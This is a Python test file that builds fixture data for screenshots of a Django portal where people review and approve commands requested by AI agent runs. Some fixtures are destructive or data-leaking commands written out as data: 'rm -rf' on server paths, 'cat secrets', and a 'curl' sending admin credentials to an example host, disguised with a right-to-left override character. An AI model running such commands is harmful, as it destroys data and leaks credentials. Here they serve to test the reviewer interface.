"""Every page of the portal in every state that looks different, drawn from rows that went through the services."""

from collections.abc import Iterator
from dataclasses import dataclass

from django.urls import reverse

from approvals import execution, services
from approvals.models import Action, Approval, EndpointStatus
from hermes_portal import clock
from runs.models import Run
from tests import factories, scenes
from tests.factories import Cast
from tests.fake_hermes import FakeHermes, close, provider_error

LONG = "/srv/reports/" + "a-directory-with-a-name-that-does-not-fit-in-any-column/" * 5
COMMAND = f"rm -rf {LONG} && curl -u admin:hunter2 https://x.example\u202e"


@dataclass(frozen=True)
class Place:
    """One page: a name for its pictures, who looks at it ("" is nobody), where."""

    name: str
    who: str
    path: str


def approval_at(approval: Approval) -> str:
    return reverse("approval", args=[approval.pk])


def action_at(action: Action) -> str:
    return reverse("action", args=[action.pk])


def run_at(run: Run) -> str:
    return reverse("run", args=[run.pk])


def talking(desk: Cast) -> Run:
    """A run with every kind of row in its transcript, which stops at a command."""
    run = scenes.running(desk.requester, desk.endpoint, text=f"Rebuild the yearly report in {LONG}")
    scenes.event(run, "message.delta", "I look at what is there.\nThen I decide.")
    scenes.event(run, "reasoning.available", "The build may be stale.")
    scenes.event(run, "tool.started", f"ls -l {LONG}", tool="terminal")
    scenes.event(run, "tool.completed", tool="terminal", duration=0.4, error=False)
    scenes.event(run, "tool.started", "cat secrets", tool="terminal")
    scenes.event(run, "tool.completed", tool="terminal", duration=12.0, error=True)
    scenes.event(run, "approval.responded", choice="once", resolved=1)
    scenes.event(run, "gap", why="The connection broke off.")
    scenes.event(run, "unparsed", "data: {", reason="bad_json")
    scenes.event(run, "something.new", "", detail={"of": ["an", "unknown", "kind"]})
    return run


def ended(desk: Cast, status: str, **changes: object) -> Run:
    run = scenes.running(desk.requester, desk.endpoint, text=f"A run that is {status}")
    scenes.event(run, f"run.{status}", "It broke." if status == "failed" else "")
    now = clock.now()
    usage = {"input_tokens": 1200, "output_tokens": 40, "total_tokens": 1240}
    Run.objects.filter(pk=run.pk).update(
        status=status, stream=Run.Stream.ENDED, ended_at=now, usage=usage, status_from="event", **changes
    )
    return run


def unknown(desk: Cast, hermes: FakeHermes) -> Action:
    """A start whose reply was lost."""
    hermes.script("POST", "/v1/runs", close())
    action = scenes.start(desk.requester, desk.endpoint, text="A start without an answer")
    execution.execute(action.pk)
    return action


def not_started(desk: Cast, hermes: FakeHermes) -> Action:
    """A start that found no free slot."""
    hermes.script("POST", "/v1/runs", provider_error(429, "Too many concurrent runs", "rate_limit_exceeded"))
    action = scenes.start(desk.requester, desk.endpoint, text="A start without a slot")
    execution.execute(action.pk)
    return action


def stop_of(desk: Cast, run: Run) -> Approval:
    action = services.request(
        user=desk.requester,
        endpoint=desk.endpoint,
        operation="run_stop",
        raw={"run_id": run.provider_run_id},
        reason="It takes too long.",
        key=f"stop-{run.pk}",
    ).action
    return action.approval


def decide(approval: Approval, by: object, **vote: str) -> None:
    services.decide(
        approval=approval,
        user=by,  # type: ignore[arg-type]
        seen=services.seen_digest(approval),
        **{"reason": "The path is the one of the ticket.", **vote},
    )


def build(desk: Cast, hermes: FakeHermes) -> list[Place]:
    """The places to look at, over rows that this makes. What needs an approval of policy comes last."""
    lost, refused = unknown(desk, hermes), not_started(desk, hermes)
    waiting = talking(desk)
    card = scenes.card(scenes.asks(waiting, COMMAND))
    denied = scenes.card(scenes.asks(scenes.running(desk.requester, desk.endpoint), "rm -rf /srv/old"))
    decide(denied, desk.reviewer, verdict="deny")
    late = scenes.late(
        scenes.card(scenes.asks(scenes.running(desk.requester, desk.endpoint), "rm -rf /srv/late"))
    )
    completed = ended(desk, "completed", output="All four tables are complete: 1,842 rows.")
    failed = ended(desk, "failed", error="The model answered 500.", gaps=1, truncated=True)
    stop = stop_of(desk, scenes.running(desk.requester, desk.endpoint, text="Watch the queue"))
    EndpointStatus.objects.filter(endpoint=desk.endpoint).update(
        version="0.19.0", health=EndpointStatus.Health.OK, checked_at=clock.now(), features={"run_stop": True}
    )
    factories.policy(
        desk.acme, factories.require("run_start", 2), factories.forbid("run_stop"), reason="Two people."
    )
    start = scenes.start(desk.requester, desk.endpoint, text="Send the newsletter").approval
    decide(start, desk.second, verdict="approve")
    return [
        *list(own(desk)),
        *cards(card, denied, late, stop, start),
        *rest(lost, refused, waiting, completed, failed),
    ]


def own(desk: Cast) -> Iterator[Place]:
    """Pages that are the same whatever happened."""
    yield Place("sign-in", "", "/accounts/login/")
    yield Place("sign-up", "", "/accounts/signup/")
    yield Place("inactive", "", "/accounts/inactive/")
    yield Place("password", "reviewer", "/accounts/password/change/")
    yield Place("sign-out", "reviewer", "/accounts/logout/")
    yield Place("not-found", "reviewer", "/runs/00000000-0000-7000-8000-000000000000/")
    yield Place("queue-nobody", "nobody", "/")
    yield Place("queue-empty", "stranger", "/")
    yield Place("queue", "reviewer", "/")
    yield Place("start", "requester", "/runs/start/")
    yield Place("start-nowhere", "reviewer", "/runs/start/")
    yield Place("runs", "requester", "/runs/")
    yield Place("requests", "reviewer", "/requests/")
    yield Place("evidence", "auditor", "/evidence/")
    yield Place("evidence-none", "reviewer", "/evidence/")
    yield Place("endpoints", "reviewer", "/endpoints/")
    yield Place("capabilities", "reviewer", f"/endpoints/{desk.endpoint.endpoint_id}/capabilities/")


def cards(
    card: Approval, denied: Approval, late: Approval, stop: Approval, start: Approval
) -> Iterator[Place]:
    yield Place("card", "reviewer", approval_at(card))
    yield Place("card-own", "requester", approval_at(card))
    yield Place("card-denied", "reviewer", approval_at(denied))
    yield Place("card-expired", "reviewer", approval_at(late))
    yield Place("card-stop", "reviewer", approval_at(stop))
    yield Place("card-start", "reviewer", approval_at(start))
    yield Place("card-start-own", "requester", approval_at(start))


def rest(lost: Action, refused: Action, waiting: Run, completed: Run, failed: Run) -> Iterator[Place]:
    yield Place("run-waiting", "requester", run_at(waiting))
    yield Place("run-completed", "requester", run_at(completed))
    yield Place("run-failed", "requester", run_at(failed))
    yield Place("run-unknown", "requester", run_at(lost.run))
    yield Place("run-not-started", "requester", run_at(refused.run))
    yield Place("action-unknown", "reviewer", action_at(lost))
    yield Place("action", "auditor", action_at(waiting.action))
